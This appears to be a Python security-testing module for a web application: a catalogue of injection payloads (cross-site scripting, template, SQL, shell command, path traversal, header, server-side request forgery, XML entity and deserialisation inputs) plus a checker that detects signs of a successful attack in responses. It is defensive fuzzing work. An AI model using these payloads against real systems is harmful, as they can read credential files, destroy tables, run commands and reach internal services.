"""What attackers put where an answer is expected, by what they are after; and how it would show if it worked.

The word `MARK` stands in each payload that could come back; `{canary}` stands for an address where the test listens.
"""

import re
from html.parser import HTMLParser

MARK = "zq7x"
PRODUCT = 1337 * 7919
"""What a template or an expression would make of a payload's sum."""

PAYLOADS: dict[str, tuple[str, ...]] = {
    "script": (
        f"\"'><{MARK}>",
        f"</title></textarea></script><{MARK} x=1>",
        f"' autofocus on{MARK}=1 x='",
        f'" on{MARK}=1 x="',
        f"<img src=x on{MARK}=1>",
        f"<svg/on{MARK}=1>",
        f"javascript:{MARK}()",
        f"data:text/html,<{MARK}>",
        f"\u003c{MARK}\u003e\uff1c{MARK}\uff1e",
        f"--><!--><{MARK}-->",
        f"<<{MARK}//<",
        f"+ADw-{MARK}+AD4-",
        f"&lt;{MARK}&gt;&#x3c;{MARK}&#x3e;",
        f"%3C{MARK}%3E",
        f"<scr\x00ipt>{MARK}",
    ),
    "template": ("{{1337*7919}}", "${1337*7919}", "#{1337*7919}", "<%= 1337*7919 %>", "{%print(1337*7919)%}",
                 "{{config}}", "{{''.__class__.__mro__}}", "%(csrf_token)s", "{0.__class__}", "%s%s%s%n", "%d" * 20),
    "database": ("'", '"', "')--", "' OR '1'='1", "1; DROP TABLE journeys--", "'; DELETE FROM journeys; --",
                 "' UNION SELECT sql FROM sqlite_master--", "\\'; SELECT pg_sleep(9)--", "admin'/*", "1' AND 1=1",
                 '{"$gt": ""}', "[$ne]=1", "*)(uid=*))(|(uid=*", "' or count(/*)=1 or '", "\\x27\\x22", "0x27", "';"),
    "command": (";id", "|id", "`id`", "$(id)", "&& id", "\nid\n", "|| curl {canary} ||", "() { :;}; echo root:x:0",
                "; cat /etc/passwd", "__import__('os').system('id')", "eval(1337*7919)", "@java.lang.Runtime@"),
    "file": ("../../../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "/etc/passwd",
             "..%2f..%2f..%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd",
             "/etc/passwd%00.css", "file:///etc/passwd", "php://filter/resource=/etc/passwd", ".git/config", ".env",
             "wsgi.py", "instance/secret_key", "static/../webapp/settings.py", "/proc/self/environ", "~root"),
    "header": (f"x\r\nX-{MARK}: 1", f"x\nX-{MARK}: 1", f"x\r\n\r\n<{MARK}>", f"x%0d%0aX-{MARK}:%201",
               f"x\u560d\u560aX-{MARK}: 1", f"x\r\nSet-Cookie: {MARK}=1", f"x\u2028X-{MARK}: 1", f"x\rX-{MARK}:1"),
    "elsewhere": ("{canary}", "//evil.example", "https://evil.example/", "/\\evil.example", "https:evil.example",
                  "http://127.0.0.1:22/", "http://169.254.169.254/latest/meta-data/", "http://[::1]/", "gopher://x",
                  "https://kyc.evil.example@127.0.0.1", "http://0x7f000001/", "http://2130706433/", "\tjavascript:1"),
    "document": ('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "{canary}">]><a>&b;</a>',
                 '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
                 '<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><c>&b;</c>',
                 '{"__proto__": {"admin": true}}', '{"a":' * 40, "[" * 300, "\x80\x04\x95.", "!!python/object:x",
                 "rO0ABXNyABFqYXZh", "O:8:\"stdClass\":0:{}"),
    "odd": ("", " ", "\x00", "\x00" * 40, "\x7f\x1b[31m", "\ufeff", "\u202e\u2066abc", "\u0000\ud7ff", "a\u0301" * 60,
            "\U0001f600" * 30, "﷽" * 40, "\u200b\u200d\u2060", "１２３４５６７８９０", "٩٨٧٦٥٤٣٢١", "९" * 10, "-1", "0",
            "1e309", "NaN", "99999999999999999999", "-9223372036854775809", "0x1F", "true", "null", "undefined", "None",
            "[]", "A" * 2000, "9" * 3000, "%", "%%", "%zz", "%u003c", "\\", "\\u0000", ";", "&&&", "=====", "+" * 50),
}  # fmt: skip
ALL = tuple(text for texts in PAYLOADS.values() for text in texts)

_OF_A_FILE = re.compile(rb"root:x?:0:0|\[extensions\]|CREATE TABLE|SQLite format 3|repositoryformatversion|SECRET_KEY=")
_OF_A_COMMAND = re.compile(rb"uid=\d+\(|gid=\d+\(")
_OF_A_DEFECT = re.compile(rb'Traceback|sqlite3\.\w|psycopg|sqlalchemy|jinja2|werkzeug|site-packages|File ".*\.py"')
_ADDRESSES = {"href", "src", "action", "formaction", "content", "data"}


class _Markup(HTMLParser):
    """Notes what a browser would take as markup although it came in with the request."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag, an attribute or a script's address that bears the mark."""
        for name, value in attrs:
            address = (value or "").strip().lower()
            leads_out = name in _ADDRESSES and address.startswith(("javascript:", "data:", "//", "http"))
            if MARK in name or name.startswith("on") or (leads_out and ("evil" in address or MARK in address)):
                self.found.append(f"{name}={value}")
        if MARK in tag:
            self.found.append(tag)

    def handle_comment(self, data: str) -> None:
        """Note a comment that bears the mark."""
        if MARK in data:
            self.found.append(data)


def what_worked(headers: dict[str, str], body: bytes) -> str:
    """Return what in an answer shows that an attack came through; empty where nothing does."""
    location = headers.get("location", "/")
    if not location.startswith("/") or location.startswith(("//", "/\\")):
        return f"leads elsewhere: {location}"
    if any(MARK in name for name in headers) or f"{MARK}=1" in headers.get("set-cookie", ""):
        return f"a header of the request's: {headers}"
    if str(PRODUCT).encode() in body:
        return "a sum was worked out"
    for pattern in (_OF_A_FILE, _OF_A_COMMAND, _OF_A_DEFECT):
        if found := pattern.search(body):
            return f"told from inside: {found[0]!r}"
    if headers.get("content-type", "").startswith("text/html"):
        markup = _Markup()
        markup.feed(body.decode("utf-8", "replace"))
        markup.close()
        return ", ".join(markup.found)
    return ""
